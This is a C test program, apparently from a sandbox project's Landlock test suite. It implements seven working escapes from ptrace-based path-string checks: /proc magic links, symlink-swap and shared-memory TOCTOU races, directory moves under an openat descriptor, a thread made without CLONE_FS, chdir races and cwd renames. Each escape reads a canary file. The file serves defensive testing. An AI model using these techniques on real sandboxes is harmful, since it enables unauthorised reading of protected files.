/* Path-rule escapes that a ptrace check of the strings cannot stop and
   Landlock can (tests/landlock.rs). The working directory is BASE/wd; the
   canary is BASE/secret, readable by the run's uid, outside every path
   rule. Each mode prints "attempts N" and "LEAK <line>" (once) when it read
   the canary. Races run for at most RACE_SECS seconds; every loop is bounded
   in count and time.
   usage: ll_attack MODE CANARY   (MODE: magic swap shmflip dirmove nofs
                                   chdirrace renamecwd) */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define RACE_SECS 2.5
#define MAX_TRIES 2000000L

static const char *canary;
static long attempts;
static int leaked;
static volatile int stop;

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

/* Reads what fd holds; reports the canary's line once. */
static void check_fd(int fd) {
    char buf[256];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return;
    buf[n] = 0;
    if (strstr(buf, "SECRET") && !leaked) {
        leaked = 1;
        printf("LEAK %s", buf);
        fflush(stdout);
    }
}

static void try_open_at(int dirfd, const char *p) {
    attempts++;
    int fd = openat(dirfd, p, O_RDONLY);
    if (fd >= 0) check_fd(fd);
}

static void try_open(const char *p) { try_open_at(AT_FDCWD, p); }

static void write_file(const char *p, const char *s) {
    int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) { write(fd, s, strlen(s)); close(fd); }
}

/* /proc magic links: each is checked by its own name, the kernel follows it. */
static void magic(void) {
    char p[600];
    snprintf(p, sizeof p, "/proc/self/root%s", canary);
    try_open(p);
    int d = open(".", O_RDONLY | O_DIRECTORY);
    if (d < 0) { printf("open . failed %d\n", errno); return; }
    snprintf(p, sizeof p, "/proc/self/fd/%d/../secret", d);
    try_open(p);
    snprintf(p, sizeof p, "/dev/fd/%d/../secret", d);
    try_open(p);
    snprintf(p, sizeof p, "/proc/thread-self/root%s", canary);
    try_open(p);
}

/* A symlink swapped between an allowed file and the canary. */
static void *swapper(void *a) {
    (void)a;
    for (long i = 0; i < MAX_TRIES && !stop; i++) {
        unlink("t1");
        symlink(canary, "t1");
        rename("t1", "l");
        unlink("t2");
        symlink("good", "t2");
        rename("t2", "l");
    }
    return 0;
}

static void swap(void) {
    write_file("good", "good\n");
    symlink("good", "l");
    pthread_t t;
    pthread_create(&t, 0, swapper, 0);
    double end = now() + RACE_SECS;
    while (now() < end && attempts < MAX_TRIES) try_open("l");
    stop = 1;
    pthread_join(t, 0);
}

/* A forked child rewrites the path in a page shared with the opener. */
static void shmflip(void) {
    write_file("good", "good\n");
    char *path = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (path == MAP_FAILED) { printf("mmap failed %d\n", errno); return; }
    strcpy(path, "good");
    double end = now() + RACE_SECS;
    pid_t c = fork();
    if (c < 0) { printf("fork failed %d\n", errno); return; }
    if (c == 0) {
        size_t n = strlen(canary) + 1;
        for (long i = 0; i < 50 * MAX_TRIES && now() < end; i++) {
            memcpy(path, canary, n);
            memcpy(path, "good", 5);
        }
        _exit(0);
    }
    while (now() < end && attempts < MAX_TRIES) try_open(path);
    kill(c, SIGKILL);
    waitpid(c, 0, 0);
}

/* A directory moved under an openat dirfd: "../../secret" from d1/d2 is in
   the working directory, from d2 (moved up) it is the canary. */
static void *mover(void *a) {
    (void)a;
    for (long i = 0; i < MAX_TRIES && !stop; i++) {
        rename("d1/d2", "d2");
        rename("d2", "d1/d2");
    }
    return 0;
}

static void dirmove(void) {
    mkdir("d1", 0755);
    mkdir("d1/d2", 0755);
    int d = open("d1/d2", O_RDONLY | O_DIRECTORY);
    if (d < 0) { printf("open d1/d2 failed %d\n", errno); return; }
    mkdir("d1/d2/e", 0755);
    /* A long walk (e/.. many times) before the "..": the kernel takes a
       while to reach it, which widens the window for the move. */
    static char slow[4000];
    size_t at = 0;
    while (at + 5 < 3400) { memcpy(slow + at, "e/../", 5); at += 5; }
    strcpy(slow + at, "../../secret");
    pthread_t t;
    pthread_create(&t, 0, mover, 0);
    double end = now() + RACE_SECS;
    while (now() < end && attempts < MAX_TRIES) try_open_at(d, slow);
    stop = 1;
    pthread_join(t, 0);
}

/* A thread created without CLONE_FS changes directory to the canary's;
   the main thread's next relative open caches the working directory for
   the whole thread group; the thread's relative "secret" is then checked
   against the working directory and opened in the canary's. */
static volatile int phase;
static char base_dir[512];

static int nofs_thread(void *a) {
    (void)a;
    if (chdir(base_dir) != 0) { phase = -1; return 0; }
    for (int round = 0; round < 50; round++) {
        phase = 1;
        double end = now() + 2;
        while (phase != 2 && now() < end) sched_yield();
        try_open("secret");
        phase = 3;
    }
    phase = 4;
    syscall(SYS_exit, 0);
    return 0;
}

static void nofs(void) {
    write_file("good", "good\n");
    char *stack = mmap(0, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    int flags = CLONE_VM | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM | CLONE_FILES;
    if (clone(nofs_thread, stack + (1 << 16), flags, 0) < 0) {
        printf("clone failed %d\n", errno);
        return;
    }
    double end = now() + 5;
    while (phase != 4 && phase != -1 && now() < end) {
        if (phase == 1) {
            int fd = open("good", O_RDONLY);
            if (fd >= 0) close(fd);
            phase = 2;
        }
        if (phase == 3) phase = 0;
        sched_yield();
    }
    if (phase == -1) printf("chdir in the thread failed\n");
}

/* One thread goes back and forth between the working directory and the
   canary's; another opens "secret" relative to the shared cwd. */
static char wd[512];

static void *chdirer(void *a) {
    (void)a;
    for (long i = 0; i < MAX_TRIES && !stop; i++) {
        chdir(base_dir);
        chdir(wd);
    }
    return 0;
}

static void chdirrace(void) {
    pthread_t t;
    pthread_create(&t, 0, chdirer, 0);
    double end = now() + RACE_SECS;
    while (now() < end && attempts < MAX_TRIES) try_open("secret");
    stop = 1;
    pthread_join(t, 0);
}

/* The working directory renamed: "../../secret" from a/b is in the working
   directory, from b (its new place) it is the canary. */
static void renamecwd(void) {
    mkdir("a", 0755);
    mkdir("a/b", 0755);
    if (chdir("a/b") != 0) { printf("chdir a/b failed %d\n", errno); return; }
    try_open("../../good");   /* the supervisor looks at the cwd here */
    if (rename("../b", "../../b") != 0) { printf("rename failed %d\n", errno); return; }
    for (int i = 0; i < 10; i++) try_open("../../secret");
}

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    /* "@PATH": the canary's path as a word, not a path named on the command
       line (a policy's `path read $ARGS` would let it be read). */
    canary = argv[2][0] == '@' ? argv[2] + 1 : argv[2];
    if (!getcwd(wd, sizeof wd)) return 2;
    snprintf(base_dir, sizeof base_dir, "%s", canary);
    char *slash = strrchr(base_dir, '/');
    if (slash) *slash = 0;
    const char *m = argv[1];
    if (!strcmp(m, "magic")) magic();
    else if (!strcmp(m, "swap")) swap();
    else if (!strcmp(m, "shmflip")) shmflip();
    else if (!strcmp(m, "dirmove")) dirmove();
    else if (!strcmp(m, "nofs")) nofs();
    else if (!strcmp(m, "chdirrace")) chdirrace();
    else if (!strcmp(m, "renamecwd")) renamecwd();
    else return 2;
    printf("attempts %ld\n", attempts);
    return 0;
}
